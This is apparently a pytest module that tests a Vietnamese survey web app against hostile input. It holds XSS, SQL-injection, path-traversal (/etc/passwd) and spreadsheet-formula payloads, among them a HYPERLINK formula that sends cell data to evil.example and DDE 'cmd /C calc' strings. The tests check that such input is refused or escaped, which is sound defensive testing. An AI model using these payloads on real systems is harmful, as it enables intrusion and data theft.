"""Hostile input: each case gets a clear 4xx (or is stored as plain text) and the
database holds nothing it should not.

Every case compares the stored responses, answers and comments before and after,
so the cases share one demo database (``demo_app`` is module-scoped here): a case
that stored something it should not would also show in the cases after it.
"""

from __future__ import annotations

import hashlib
import io
import os
import re
import time
from pathlib import Path
from urllib.parse import quote

import pytest
from markupsafe import escape
from sqlalchemy import func, select

from survey.models import Comment, Desk, Response, Volume
from survey.models.planning import VolumeUpload
from survey.services import links
from survey.services.demo import demo_code
from tests.support import (
    DESK,
    TEST_SECRET,
    counts,
    csrf_token,
    full_answers,
    unlimited_demo_app,
)

ROOT = Path(__file__).resolve().parent.parent
XSS = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>']
SQL = ["' OR 1=1 --", "; DROP TABLE responses", "Robert'); DROP TABLE responses;--"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture(scope="module")
def demo_app(templates):
    """One demo database and app for the module, with rate limits off."""
    with unlimited_demo_app(templates) as app:
        yield app


def stored(db) -> tuple[int, int, int]:
    """(responses, answers, comments)."""
    with db.session() as s:
        comments = s.scalar(select(func.count()).select_from(Comment))
    return (*counts(db), comments)


def _post_raw(client, body: bytes, content_type: str, path=f"/s/{DESK}"):
    return client.post(path, data=body, content_type=content_type)


def _urlencoded(data: dict, extra: str = "") -> bytes:
    pairs = [f"{quote(k)}={quote(v)}" for k, v in data.items()]
    return ("&".join(pairs) + extra).encode()


def _multipart(fields: list[tuple[str, bytes]]) -> tuple[bytes, str]:
    boundary = "----hostile-boundary"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode()
        + value
        + b"\r\n"
        for name, value in fields
    ]
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


# --- the shape of the body -----------------------------------------------------
def _body_case(kind):
    """(body, content type, expected status) built from a valid form."""

    def build(data):
        if kind == "oversized urlencoded body":
            return _urlencoded(data, "&comment=" + "x" * 200_000), URL, 413
        if kind == "oversized multipart body":
            body, ctype = _multipart([(k, v.encode()) for k, v in data.items()])
            return body + b"x" * 200_000, ctype, 413
        if kind == "5,000 urlencoded fields":
            return _urlencoded(data, "".join(f"&f{i}=1" for i in range(5000))), URL, 413
        if kind == "600 copies of one answer":
            return _urlencoded(data, "&TC1=5" * 600), URL, 413
        if kind == "600 multipart parts":
            fields = [(k, v.encode()) for k, v in data.items()] + [("x", b"1")] * 600
            body, ctype = _multipart(fields)
            return body, ctype, 413
        if kind == "two values for one answer":
            return _urlencoded(data, "&TC1=1"), URL, 400
        if kind == "raw invalid UTF-8 in the comment":
            return _urlencoded(data).replace(b"sid=", b"comment=\xff\xfe%41&sid="), URL, 400
        if kind == "percent-encoded invalid UTF-8 in the comment":
            return _urlencoded(data, "&comment=abc%C3%28"), URL, 400
        if kind == "overlong UTF-8 for '<' in the comment":
            return _urlencoded(data, "&comment=%C0%BCscript%C0%BE"), URL, 400
        if kind == "lone surrogate in the comment":
            return _urlencoded(data, "&comment=%ED%A0%80"), URL, 400
        if kind == "invalid UTF-8 in an answer":
            return _urlencoded({**data, "TC1": "x"}).replace(b"TC1=x", b"TC1=%FF"), URL, 400
        if kind == "NUL in an answer":
            return _urlencoded({**data, "TC1": "5\x00"}), URL, 400
        if kind == "NUL in the comment":
            return _urlencoded({**data, "comment": "Tốt\x00<script>"}), URL, 400
        if kind == "NUL in a field name":
            return _urlencoded({**data, "TC1\x00": "5"}), URL, 400
        if kind == "NUL in a multipart comment":
            fields = [(k, v.encode()) for k, v in data.items()] + [("comment", b"a\x00b")]
            body, ctype = _multipart(fields)
            return body, ctype, 400
        if kind == "JSON instead of a form":
            return b'{"TC1": 5}', "application/json", 400
        if kind == "empty body":
            return b"", URL, 400
        raise AssertionError(kind)

    return build


URL = "application/x-www-form-urlencoded"
BODY_CASES = [
    "oversized urlencoded body",
    "oversized multipart body",
    "5,000 urlencoded fields",
    "600 copies of one answer",
    "600 multipart parts",
    "two values for one answer",
    "raw invalid UTF-8 in the comment",
    "percent-encoded invalid UTF-8 in the comment",
    "overlong UTF-8 for '<' in the comment",
    "lone surrogate in the comment",
    "invalid UTF-8 in an answer",
    "NUL in an answer",
    "NUL in the comment",
    "NUL in a field name",
    "NUL in a multipart comment",
    "JSON instead of a form",
    "empty body",
]


@pytest.mark.parametrize("kind", BODY_CASES)
def test_hostile_bodies_are_refused_and_store_nothing(demo_client, demo_db, kind):
    body, ctype, status = _body_case(kind)(full_answers(demo_client))
    before = stored(demo_db)
    started = time.perf_counter()
    resp = _post_raw(demo_client, body, ctype)
    assert resp.status_code == status, resp.get_data(as_text=True)[:300]
    assert time.perf_counter() - started < 2
    assert stored(demo_db) == before


@pytest.mark.parametrize(
    "kind", ["NUL in the comment", "percent-encoded invalid UTF-8 in the comment"]
)
def test_late_comment_refuses_nul_and_invalid_utf8(demo_client, demo_db, kind):
    data = full_answers(demo_client)
    assert demo_client.post(f"/s/{DESK}", data=data).status_code == 200
    base = {"csrf_token": data["csrf_token"], "sid": data["sid"]}
    body = (
        _urlencoded({**base, "comment": "a\x00b"})
        if kind.startswith("NUL")
        else _urlencoded(base, "&comment=%C3%28")
    )
    before = stored(demo_db)
    assert _post_raw(demo_client, body, URL, f"/s/{DESK}/y-kien").status_code == 400
    assert stored(demo_db) == before


# --- answer values ------------------------------------------------------------
@pytest.mark.parametrize(
    "value",
    [
        "-1",
        "0",
        "6",
        "4.5",
        "5.0",
        "1e0",
        "+5",
        "05",
        " 5",
        "5 ",
        "٥",  # ARABIC-INDIC DIGIT FIVE: int() would accept it
        "５",  # FULLWIDTH DIGIT FIVE
        "NaN",
        "Infinity",
        "9" * 1000,
        "true",
        *SQL,
        *XSS,
        "=1+4",
    ],
)
def test_answers_outside_the_scale_are_refused(demo_client, demo_db, value):
    data = full_answers(demo_client)
    data["TC1"] = value
    before = stored(demo_db)
    resp = demo_client.post(f"/s/{DESK}", data=data)
    page = resp.get_data(as_text=True)
    assert resp.status_code == 400
    assert re.findall(r'<fieldset class="item has-err" id="q-([A-Z]+\d*)">', page) == ["TC1"]
    assert "<script>alert(1)" not in page and "onerror=alert(1)>" not in page
    assert stored(demo_db) == before


@pytest.mark.parametrize("value", ["other", *SQL, XSS[0], "0"])
def test_demographic_choices_outside_the_list_are_refused(demo_client, demo_db, value):
    data = full_answers(demo_client)
    data["client_type"] = value
    before = stored(demo_db)
    resp = demo_client.post(f"/s/{DESK}", data=data)
    assert resp.status_code == 400
    assert "<script>alert(1)" not in resp.get_data(as_text=True)
    assert stored(demo_db) == before


# --- comments: stored as plain text, shown escaped ------------------------------
COMMENTS = [
    *XSS,
    *SQL,
    *FORMULAS,
    "{{ 7*7 }} {% raw %} ${7*7} #{7*7}",
    "\u202eexe.txt – chữ đảo chiều",
    "ý" * 2000,
]


@pytest.mark.parametrize("text", COMMENTS, ids=lambda t: t[:24])
def test_hostile_comments_are_stored_verbatim_and_shown_escaped(demo_client, demo_db, text):
    data = full_answers(demo_client)
    before = stored(demo_db)
    # With an answer missing, the page comes back with the comment kept: escaped.
    missing = {k: v for k, v in data.items() if k != "TC1"}
    again = demo_client.post(f"/s/{DESK}", data={**missing, "comment": text})
    page = again.get_data(as_text=True)
    assert again.status_code == 400
    assert str(escape(text)) in page
    if "<" in text:
        assert text not in page
    assert "49" not in page.split("<textarea", 1)[1].split("</textarea>", 1)[0]
    assert stored(demo_db) == before

    resp = demo_client.post(f"/s/{DESK}", data={**data, "comment": text})
    assert resp.status_code == 200
    thanks = resp.get_data(as_text=True)
    assert "<script>alert(1)" not in thanks and "onerror=alert(1)>" not in thanks
    assert stored(demo_db) == (before[0] + 1, before[1] + len(data) - 2, before[2] + 1)
    with demo_db.session() as s:
        response = s.scalar(select(Response).where(Response.submission_id == data["sid"]))
        assert response.comment.text == text.strip()
    # The tables are all still there.
    assert stored(demo_db)[0] == before[0] + 1


@pytest.mark.parametrize("text", [*XSS, FORMULAS[0]], ids=lambda t: t[:24])
def test_late_comment_is_stored_verbatim_and_its_error_page_escapes(demo_client, demo_db, text):
    data = full_answers(demo_client)
    assert demo_client.post(f"/s/{DESK}", data=data).status_code == 200
    base = {"csrf_token": data["csrf_token"], "sid": data["sid"], "comment": text}
    before = stored(demo_db)
    bad = demo_client.post(f"/s/{DESK}/y-kien", data={**base, "comment_kind": "<b>x</b>"})
    assert bad.status_code == 400
    page = bad.get_data(as_text=True)
    assert str(escape(text)) in page and (text not in page or "<" not in text)
    assert "<b>x</b>" not in page
    assert stored(demo_db) == before
    ok = demo_client.post(f"/s/{DESK}/y-kien", data={**base, "comment_kind": "complaint"})
    assert ok.status_code == 200 and "<script>alert(1)" not in ok.get_data(as_text=True)
    with demo_db.session() as s:
        response = s.scalar(select(Response).where(Response.submission_id == data["sid"]))
        assert response.comment.text == text


@pytest.mark.parametrize(("length", "status"), [(2001, 400), (20_000, 400), (60_000, 413)])
def test_huge_comments_are_refused(demo_client, demo_db, length, status):
    data = full_answers(demo_client)
    data["comment"] = ("<script>" * length)[:length]
    before = stored(demo_db)
    resp = demo_client.post(f"/s/{DESK}", data=data)
    assert resp.status_code == status
    if status == 400:
        assert "<script><script>" not in resp.get_data(as_text=True)
    assert stored(demo_db) == before


# --- desk codes and case links -------------------------------------------------
HOSTILE_CODES = [
    *SQL,
    "%' OR '1'='1",
    "%",
    "_",
    "*",
    "ZAY5D7N9' --",
    "../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "A" * 5000,
    "\x00",
    f"{DESK}\x00",
    "<script>alert(1)</script>",
    "ПРИВЕТ",
]


@pytest.mark.parametrize("code", HOSTILE_CODES, ids=lambda c: repr(c[:20]))
def test_hostile_desk_codes_find_nothing(demo_client, demo_db, code):
    path = f"/s/{quote(code, safe='')}"
    page = demo_client.get(path)
    assert page.status_code in (400, 404)
    assert "<script>alert(1)" not in page.get_data(as_text=True)
    data = full_answers(demo_client)
    before = stored(demo_db)
    assert demo_client.post(path, data=data).status_code in (400, 404)
    assert demo_client.post(f"{path}/y-kien", data=data).status_code in (400, 404)
    assert stored(demo_db) == before


@pytest.mark.parametrize("code", ["NOSUCH22", "ZZZZZZZZ", demo_code("nt-old")])
def test_forged_and_inactive_desks_store_nothing(demo_client, demo_db, code):
    data = full_answers(demo_client)  # a valid form of an active desk
    before = stored(demo_db)
    expected = 410 if code == demo_code("nt-old") else 404
    assert demo_client.get(f"/s/{code}").status_code == expected
    assert demo_client.post(f"/s/{code}", data=data).status_code == expected
    assert stored(demo_db) == before


def _token(desk=DESK, case="CASE-HOSTILE", secret=TEST_SECRET):
    claims = links.Claims(desk, None, None, links.case_hash(secret, case), int(time.time()) + 3600)
    return links.make_token(secret, claims)


def _tampered(kind: str) -> str:
    token = _token()
    payload, sig = token.split(".")
    flip = {"A": "B"}.get(sig[0], "A")
    other_payload = _token(case="CASE-OTHER").split(".")[0]
    return {
        "signature changed": f"{payload}.{flip}{sig[1:]}",
        "payload changed": f"{payload[:-1]}{'A' if payload[-1] != 'A' else 'B'}.{sig}",
        "payload of another link": f"{other_payload}.{sig}",
        "another desk, old signature": f"{_token(desk=demo_code('nt-2')).split('.')[0]}.{sig}",
        "signed with another secret": _token(secret="another-secret-0123456789abcdef"),
        "signature missing": f"{payload}.",
        "no dot": payload,
        "huge": "A" * 5000 + "." + sig,
        "SQL": f"{payload}' OR 1=1 --.{sig}",
        "non-ASCII signature": f"{payload}.{sig[:-1]}é",
    }[kind]


LINK_CASES = [
    "signature changed",
    "payload changed",
    "payload of another link",
    "another desk, old signature",
    "signed with another secret",
    "signature missing",
    "no dot",
    "huge",
    "SQL",
    "non-ASCII signature",
]


@pytest.mark.parametrize("kind", LINK_CASES)
def test_tampered_links_are_refused_and_store_nothing(demo_client, demo_db, kind):
    path = f"/l/{quote(_tampered(kind), safe='.')}"
    page = demo_client.get(path)
    assert page.status_code == 400
    assert "không hợp lệ" in page.get_data(as_text=True)
    data = full_answers(demo_client)
    before = stored(demo_db)
    assert demo_client.post(path, data=data).status_code == 400
    assert stored(demo_db) == before


@pytest.mark.parametrize(
    "sid",
    [
        "",
        "0" * 32 + "." + "f" * 20,
        "' OR 1=1 --",
        "a" * 5000,
        "a" * 32 + ".é",
    ],
    ids=["empty", "forged", "SQL", "huge", "non-ASCII"],
)
def test_forged_submission_ids_store_nothing(demo_client, demo_db, sid):
    data = full_answers(demo_client)
    data["sid"] = sid
    before = stored(demo_db)
    assert demo_client.post(f"/s/{DESK}", data=data).status_code == 400
    assert stored(demo_db) == before


# --- CSRF tokens --------------------------------------------------------------
def _other_session_token(app):
    other = app.test_client()
    return full_answers(other)["csrf_token"]


@pytest.mark.parametrize("kind", ["missing", "empty", "forged", "another session's"])
def test_missing_or_foreign_csrf_tokens_store_nothing(demo_app, demo_client, demo_db, kind):
    data = full_answers(demo_client)
    if kind == "missing":
        del data["csrf_token"]
    else:
        data["csrf_token"] = {
            "empty": "",
            "forged": data["csrf_token"][:-4] + "AAAA",
            "another session's": _other_session_token(demo_app),
        }[kind]
    before = stored(demo_db)
    resp = demo_client.post(f"/s/{DESK}", data=data)
    assert resp.status_code == 400
    assert "Phiên làm việc đã hết hạn" in resp.get_data(as_text=True)
    # The late comment of a stored response: the same.
    good = full_answers(demo_client)
    assert demo_client.post(f"/s/{DESK}", data=good).status_code == 200
    after_good = stored(demo_db)
    comment = {"sid": good["sid"], "comment": "Góp ý"}
    if kind != "missing":
        comment["csrf_token"] = data["csrf_token"]
    assert demo_client.post(f"/s/{DESK}/y-kien", data=comment).status_code == 400
    assert stored(demo_db) == after_good == (before[0] + 1, after_good[1], before[2])


# --- staff: forms and volume uploads --------------------------------------------
@pytest.fixture
def manager(demo_app, demo_db, sign_in_as):
    """A signed-in unit manager of KH-CAMRANH."""
    client = sign_in_as("unit_manager", client=demo_app.test_client(), username="hostile_mgr")
    with demo_db.session() as s:
        desk = s.scalar(select(Desk.id).where(Desk.code == demo_code("cr-1")))
    return client, desk


def _desk_name(db, desk_id):
    with db.session() as s:
        return s.scalar(select(Desk.name).where(Desk.id == desk_id))


@pytest.mark.parametrize(
    ("name", "status"),
    [("Quầy\x00 1", 400), (XSS[0], 302), (SQL[1], 302), (FORMULAS[0], 302)],
    ids=["NUL", "script", "SQL", "formula"],
)
def test_staff_form_text_is_refused_with_nul_and_kept_verbatim_otherwise(
    demo_db, manager, name, status
):
    client, desk_id = manager
    token = csrf_token(client, f"/staff/desks/{desk_id}")
    old = _desk_name(demo_db, desk_id)
    resp = client.post(f"/staff/desks/{desk_id}/rename", data={"csrf_token": token, "name": name})
    assert resp.status_code == status
    assert _desk_name(demo_db, desk_id) == (old if status == 400 else name)
    if status == 302:
        page = client.get(f"/staff/desks/{desk_id}").get_data(as_text=True)
        assert str(escape(name)) in page and "<script>alert(1)" not in page


def _volumes_state(db):
    with db.session() as s:
        volumes = sorted(
            s.execute(select(Volume.id, Volume.desk_id, Volume.month, Volume.count)).all()
        )
        staged = s.scalars(select(VolumeUpload.filename)).all()
    return volumes, staged


def _sha(path: str) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.mark.parametrize(
    "filename",
    [
        "../../etc/passwd.csv",
        "../../../../../../etc/passwd",
        "..\\..\\Windows\\win.ini.csv",
        "/etc/passwd.csv",
        "....//....//passwd.csv",
        "%2e%2e%2fpasswd.csv",
        "passwd.csv\r\nX-Injected: 1",
        "<script>alert(1)</script>.csv",
        "x" * 3000 + ".csv",
    ],
    ids=lambda n: repr(n[:24]),
)
def test_upload_file_names_never_become_paths(demo_db, manager, filename, tmp_path):
    client, _desk = manager
    token = csrf_token(client, "/staff/volumes")
    month = time.strftime("%Y-%m", time.localtime(time.time() - 40 * 86400))
    csv = f"desk,month,count\n{demo_code('cr-1')},{month},7\n".encode()
    passwd = _sha("/etc/passwd")
    watched = [ROOT, ROOT / "instance", ROOT.parent, Path("/etc"), Path.cwd()]
    listing = {d: sorted(os.listdir(d)) for d in watched if d.is_dir()}
    before_volumes, _staged = _volumes_state(demo_db)
    resp = client.post(
        "/staff/volumes",
        data={"csrf_token": token, "file": (io.BytesIO(csv), filename)},
        buffered=True,
    )
    page = resp.get_data(as_text=True)
    assert resp.status_code in (200, 422), page[:500]
    assert "../" not in page and "..\\" not in page and "<script>alert(1)" not in page
    assert _sha("/etc/passwd") == passwd
    for d, names in listing.items():
        new = set(os.listdir(d)) - set(names)
        assert not {n for n in new if "passwd" in n or "win.ini" in n}, (d, new)
    volumes, staged = _volumes_state(demo_db)
    assert volumes == before_volumes  # a preview only; nothing imported yet
    for name in staged:
        assert "/" not in name and "\\" not in name and "\n" not in name and "\r" not in name


def _xlsx_with_formula() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["desk", "month", "count"])
    sheet.append([demo_code("cr-1"), "2026-01", "=1+1"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "count", [*FORMULAS, "=1+1", "1e3", "0x10", "12abc", "DROP TABLE volumes"], ids=repr
)
def test_formula_counts_in_volume_uploads_are_rejected(demo_db, manager, count):
    client, _desk = manager
    token = csrf_token(client, "/staff/volumes")
    quoted = '"' + count.replace('"', '""') + '"'
    csv = f"desk,month,count\n{demo_code('cr-1')},2026-01,{quoted}\n".encode()
    before = _volumes_state(demo_db)
    resp = client.post(
        "/staff/volumes",
        data={"csrf_token": token, "file": (io.BytesIO(csv), "v.csv")},
        buffered=True,
    )
    page = resp.get_data(as_text=True)
    assert resp.status_code == 422
    assert "không phải số nguyên" in page
    assert "<script" not in page
    assert _volumes_state(demo_db) == before  # nothing staged, nothing imported


def test_formula_cell_in_an_xlsx_upload_is_rejected(demo_db, manager):
    client, _desk = manager
    token = csrf_token(client, "/staff/volumes")
    before = _volumes_state(demo_db)
    resp = client.post(
        "/staff/volumes",
        data={"csrf_token": token, "file": (io.BytesIO(_xlsx_with_formula()), "v.xlsx")},
        buffered=True,
    )
    assert resp.status_code == 422
    assert _volumes_state(demo_db) == before


# --- the bearer-key API -------------------------------------------------------
@pytest.fixture
def api_key(demo_db):
    with demo_db.session() as s:
        _row, key = links.create_api_key(s, "KH-CAMRANH", "hostile")
    return key


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"desk": SQL[0]}, "desk"),
        ({"desk": SQL[1]}, "desk"),
        ({"desk": ["x"]}, "desk"),
        ({"case_number": XSS[0]}, "case_number"),
        ({"case_number": SQL[0]}, "case_number"),
        ({"procedure": FORMULAS[0]}, "procedure"),
        ({"sector": SQL[0]}, "sector"),
        ({"desk": "\x00"}, "desk"),
        ({"desk": f"{demo_code('cr-2')}\x00"}, "desk"),
        ({"sector": "DAT\x00"}, "sector"),
    ],
    ids=lambda v: repr(v)[:30] if isinstance(v, dict) else v,
)
def test_api_refuses_hostile_fields(demo_client, demo_db, api_key, body, field):
    body = {"desk": demo_code("cr-2"), "case_number": "CASE-1", **body}
    resp = demo_client.post(
        "/api/v1/survey-links", json=body, headers={"Authorization": f"Bearer {api_key}"}
    )
    assert resp.status_code == 422
    assert resp.get_json()["error"]["field"] == field


@pytest.mark.parametrize(
    "body",
    [b"[" * 60_000, b'{"desk": "' + b"\xff" * 10 + b'"}', b"\x00", b"not json"],
    ids=["deep nesting", "invalid UTF-8", "NUL", "not JSON"],
)
def test_api_refuses_malformed_json(demo_client, api_key, body):
    resp = demo_client.post(
        "/api/v1/survey-links",
        data=body,
        content_type="application/json",
        headers={"Authorization": f"Bearer {api_key}"},
    )
    assert resp.status_code == 400
